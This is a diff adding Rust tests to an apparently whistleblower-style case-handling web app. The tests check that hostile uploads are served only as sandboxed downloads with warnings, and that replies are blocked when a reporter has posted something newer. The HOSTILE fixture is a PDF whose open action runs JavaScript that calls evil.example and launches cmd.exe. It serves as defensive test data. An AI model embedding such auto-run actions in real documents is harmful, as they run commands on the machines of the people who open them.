@@ -278,6 +278,81 @@ async fn a_strangers_text_stays_text() {
     assert_eq!(found.texts("script").concat(), "");
 }
 
+/// A document that runs a script and calls home as soon as a viewer opens it, under the name of a picture.
+const HOSTILE: &[u8] = b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL('http://evil.example'))>>>>endobj\n\
+    2 0 obj<</S/Launch/F(cmd.exe)>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF";
+
+#[tokio::test]
+async fn a_hostile_document_is_saved_with_a_warning_and_never_shown() {
+    let screen = Screen::open("lead").await;
+    screen.unlock().await;
+    for (name, said_to_be, tried) in [
+        ("invoice.pdf", "application/pdf", false),
+        ("invoice.png", "image/png", true),
+        ("page.html", "text/html", false),
+        ("drawing.svg", "image/svg+xml", true),
+    ] {
+        let office = &screen.office;
+        let reporter =
+            office.handler.file_with(&office.house, &[], "See the file.", (name, said_to_be, HOSTILE));
+        let case = screen.open_case(&reporter).await;
+        let page = screen.get(&format!("{case}/file/1")).await;
+        assert_eq!(page.status, StatusCode::OK);
+        assert!(page.text.contains("Never by a double click"), "{name}: the warning");
+        // What is no picture is offered for saving alone; what is called one is tried in the confined process, which knows better.
+        let shown = page.texts("img, embed, object, iframe, video, audio").len();
+        assert_eq!(shown, usize::from(tried), "{name}");
+        let picture = screen.get(&format!("{case}/picture/1")).await;
+        assert_eq!(picture.status, StatusCode::NOT_FOUND, "{name}");
+        assert!(!picture.text.contains("evil.example"), "{name}");
+        // No address gives it to be looked at, only to be saved.
+        let saved = screen.ask(&Method::POST, &format!("{case}/file/1")).send().await.unwrap();
+        let headers = saved.headers().clone();
+        assert_eq!(headers["content-type"], "application/octet-stream");
+        assert_eq!(headers["x-content-type-options"], "nosniff");
+        assert!(headers["content-disposition"].to_str().unwrap().starts_with("attachment;"));
+        assert!(headers["content-security-policy"].to_str().unwrap().contains("sandbox"));
+        assert_eq!(saved.bytes().await.unwrap(), HOSTILE, "{name}: as it came");
+    }
+}
+
+#[tokio::test]
+async fn who_is_second_is_told_what_happened_and_keeps_the_text() {
+    let screen = Screen::open("lead").await;
+    let office = &screen.office;
+    screen.unlock().await;
+    let reporter = office.file(&[]);
+    let case = screen.open_case(&reporter).await;
+    let text = "We look into it.";
+    let id = reporter.case;
+    office.handler.follow_up_meanwhile(&office.house, reporter, "Don't. They know.");
+    let late =
+        screen.post(&format!("{case}/messages"), &[("go", "send"), ("lang", "en"), ("text", text)]).await;
+    assert_eq!(late.status, StatusCode::UNPROCESSABLE_ENTITY);
+    assert!(late.texts("#write .wrong").concat().contains("was not sent"), "{:?}", late.texts(".wrong"));
+    assert!(late.text.contains("They know."), "what is new stands above it");
+    assert_eq!(late.texts("#write textarea"), [text], "nothing that was written is lost");
+    assert!(
+        office.handler.with(id, |kept| kept.replies.is_empty()),
+        "an answer to what was not read is not sent"
+    );
+    // An act: the page says that somebody was faster.
+    let reporter = office.file(&[]);
+    let case = screen.open_case(&reporter).await;
+    office.handler.follow_up_meanwhile(&office.house, reporter, "One more thing.");
+    let late = screen.post(&format!("{case}/act/claim"), &[]).await;
+    assert_eq!(late.status, StatusCode::CONFLICT);
+    assert!(late.text.contains("the reporter sent something more"), "{}", late.text);
+    assert_eq!(screen.post(&format!("{case}/act/claim"), &[]).await.status, StatusCode::SEE_OTHER);
+    // A note says the same whatever happened: it is filed behind.
+    let reporter = office.file(&[]);
+    let case = screen.open_case(&reporter).await;
+    office.handler.follow_up_meanwhile(&office.house, reporter, "And another.");
+    let noted = screen.post(&format!("{case}/notes"), &[("text", text), ("kind", "fact")]).await;
+    assert_eq!(noted.status, StatusCode::SEE_OTHER, "{}", noted.text);
+    assert_eq!(screen.get(&format!("{case}/notes")).await.texts(".fact .text"), [text]);
+}
+
 #[tokio::test]
 async fn a_day_in_the_pages() {
     let screen = Screen::open("lead").await;
